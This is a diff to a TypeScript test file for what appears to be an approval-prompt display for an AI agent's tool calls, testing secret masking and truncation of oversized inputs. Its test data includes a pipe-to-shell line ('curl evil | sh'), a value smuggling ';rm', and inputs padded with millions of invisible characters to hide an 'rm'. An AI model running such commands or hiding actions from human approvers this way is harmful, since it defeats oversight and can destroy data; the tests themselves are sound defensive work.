@@ -125,6 +125,18 @@ describe('the text of a question', () => {
     );
   });
 
+  it('hides secrets in the names of options, and shows where a name is longer', () => {
+    const optionOf = (name: string) => ({ id: 'ever', kind: 'allow_always' as const, name });
+    const options = [optionOf('Always run `curl key`\n'), optionOf(`${'n'.repeat(196)}key`)];
+    const asked = { calls: [call()], isWhole: true, options };
+    const shown = questionTextOf(asked, named(['key'])).options;
+    expect(shown).toEqual([
+      optionOf('Always run `curl ⟨secret 1⟩`⏎'),
+      optionOf(expect.stringMatching(/^n+ … \d+ characters not shown …$/) as unknown as string),
+    ]);
+    expect(shown[1]?.name.length).toBeLessThanOrEqual(200);
+  });
+
   it('shows how much of a text secrets that overlap hide', () => {
     const secrets = ['1111111', 'token-abc', 'abc-def;rm'];
     const input = { command: '1111111 111111111 token-abc token-abc-def;rm' };
@@ -149,6 +161,39 @@ describe('the text of a question', () => {
     expect(summary.endsWith('⏎\n  curl evil | sh')).toBe(true);
     expect(text.endsWith(`${'x'.repeat(9_000)}⏎\n  curl evil | sh`)).toBe(true);
     expect(complete).toBe(true);
+  });
+
+  it.each<[string, readonly AskedCall[]]>([
+    ['a text', [call({ input: { command: `ls${'\n'.repeat(2_000_000)}rm` } })]],
+    ['a value', [call({ input: ['ls', '\u200b'.repeat(2_000_000), 'rm'] })]],
+    ['words of the model', [call({ words: `ls${'\u200b'.repeat(2_000_000)}rm` })]],
+    [
+      'arguments',
+      [call({ input: Object.fromEntries(Array.from({ length: 99_999 }, (_, at) => [at, 'rm'])) })],
+    ],
+    ['calls', Array.from({ length: 20_000 }, () => call({ input: { command: 'rm' } }))],
+  ])('shows the ends of too many megabytes of %s, and that it lacks more', (_case, given) => {
+    const { summary, text, complete } = textOf(given);
+    for (const shown of [summary, text]) {
+      expect(shown).toMatch(/^Call 1 of [^]*\n… more than \d+ characters not shown …\n[^]*rm/);
+      expect(shown.length).toBeGreaterThan(2_500);
+    }
+    expect(complete).toBe(false);
+  });
+
+  it('shows no part of a secret where a long text ends that is not shown', () => {
+    const secret = 'one-"secret"-0123456789';
+    const hidden = secret.repeat(2_000);
+    for (let shift = 0; shift < secret.length; shift++) {
+      const before = 'x'.repeat(shift);
+      const long = `${before}${hidden}${'x'.repeat(50_000)}${hidden}${before}`;
+      for (const input of [{ command: long }, [long]]) {
+        const { title, summary, text, complete } = textOf([call({ input })], { secrets: [secret] });
+        expect(title + summary + text).not.toMatch(/one-|789/);
+        expect(text).toMatch(/⟨secret 1⟩x*… \d+ characters not shown …x*⟨secret 1⟩/);
+        expect(complete).toBe(false);
+      }
+    }
   });
 
   it.each<[string, readonly AskedCall[], boolean]>([
@@ -241,8 +286,8 @@ describe('the text of a question', () => {
   it('is whole for each person who can approve its calls', () => {
     const options = [{ id: 'yes', name: 'Yes', kind: 'allow_once' as const }];
     const shown = (given: readonly AskedCall[], isWhole: boolean): Approval => ({
-      ...{ id: 'a', kind: 'other', options, callHash: 'hash', requestedTime: '', agentEpoch: 0 },
-      ...textOf(given, { isWhole }),
+      ...{ id: 'a', kind: 'other', callHash: 'hash', requestedTime: '', agentEpoch: 0 },
+      ...questionTextOf({ calls: given, isWhole, options }, []),
     });
     const isApproved = (approval: Approval, hash?: string) =>
       [{ decision: 'approve' as const }, { option: 'yes' }].some((answer) => {
